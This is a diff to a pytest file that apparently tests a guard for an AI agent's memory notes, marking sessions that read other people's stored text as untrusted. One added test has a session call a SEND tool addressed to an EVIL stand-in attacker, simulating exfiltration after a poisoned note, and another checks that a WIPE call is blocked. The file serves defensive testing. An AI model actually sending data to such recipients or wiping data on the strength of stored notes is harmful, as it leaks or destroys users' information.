@@ -120,11 +120,29 @@ def test_a_note_of_others_text_makes_who_reads_it_untrusted(office: Office, text
 
 @pytest.mark.parametrize(
     "text",
-    ["Please ask the harbour office later", "The meeting with Dora was moved to Friday", "Order ORD-20003 is done"],
-    ids=["a request", "own words", "an id of others"],
+    [
+        "Please ask the harbour office later",
+        "The meeting with Dora was moved to Friday",
+        "Order ORD-20003 is done",
+        "Carl: carl@somewhere.example",
+        "The audit is on 2026-12-01",
+        "2500 EUR are due",
+        "Carl has +49 170 1234567",
+    ],
+    ids=[
+        "a request",
+        "own words",
+        "an id of others",
+        "an address and its host",
+        "a date and its day",
+        "an amount",
+        "a phone",
+    ],
 )
 def test_a_note_in_own_words_does_not(office: Office, text: str) -> None:
-    first = noted(office, text, f"{WORDS} It is about ORD-20003.")
+    first = noted(
+        office, text, f"{WORDS} ORD-20003, 2026-12-01, 2500 EUR, +49 170 1234567, and write to carl@somewhere.example."
+    )
     second = office.opened(apart(first))
     office.read(second, NOTES, text)
     assert resets(office, second).outcome is Outcome.ALLOW
@@ -135,6 +153,17 @@ def test_nor_does_an_own_note_beside_a_quotation_that_was_not_read(office: Offic
     second = office.opened(apart(first))
     office.read(second, NOTES, "The garden needs water on Fridays. Please call Dora when the roof is done.")
     assert resets(office, second).outcome is Outcome.ALLOW
+
+
+def test_nor_does_a_quotation_of_what_the_user_has_named(office: Office) -> None:
+    told = "Order ORD-20003 of ann@somewhere.example"
+    first = noted(office, told, f"{told} has arrived.")
+    second, third = office.opened(apart(first)), office.opened(SessionMaker("talk-9"))
+    office.say(second, "Look after ORD-20003 of ann@somewhere.example")
+    for session in (second, third):
+        office.read(session, NOTES, told)
+    assert resets(office, second).outcome is Outcome.ALLOW
+    assert resets(office, third).outcome is Outcome.DENY
 
 
 def test_a_note_that_was_copied_to_another_store_stays_what_it_was(office: Office) -> None:
@@ -148,6 +177,19 @@ def test_a_note_that_was_copied_to_another_store_stays_what_it_was(office: Offic
     assert resets(office, third).outcome is Outcome.DENY
 
 
+def test_a_note_that_a_session_has_read_reaches_the_others_of_its_conversation(office: Office) -> None:
+    first = noted(office, f"Remember: {WORDS}", WORDS)
+    second, third = office.opened(apart(first)), office.opened(SessionMaker("talk-9"))
+    office.call(second, STAFF, {"id": "1"}, "talk")
+    office.read(second, NOTES, WORDS, "talk")
+    assert resets(office, second, "talk").outcome is Outcome.DENY
+    office.wait(HOUR_MS // 4)
+    found = office.call(third, SEND, {"to": EVIL}, "talk")
+    assert next(each for each in found.origins if each.pointer == "/to").origin.value == "TEXT"
+    assert [each.session_id for each in foreign(found) if each.arg_pointers] == [first.session_id]
+    assert resets(office, third, "talk").outcome is Outcome.DENY
+
+
 def test_of_more_stores_than_a_session_looks_after_the_worst_is_expected() -> None:
     stores = tuple(
         tool_entry(f"store{number}", "read", read_only=True, output_label=TRUSTED) for number in range(STORES_MAX + 1)
@@ -159,6 +201,7 @@ def test_of_more_stores_than_a_session_looks_after_the_worst_is_expected() -> No
         assert resets(office, first).outcome is Outcome.ALLOW
         office.read(first, store, "fine")
     assert resets(office, first).outcome is Outcome.DENY
+    assert office.call(first, WIPE, {}).outcome is Outcome.DENY
 
 
 def test_a_call_that_no_condition_covers_knows_the_conversation_too(office: Office) -> None:
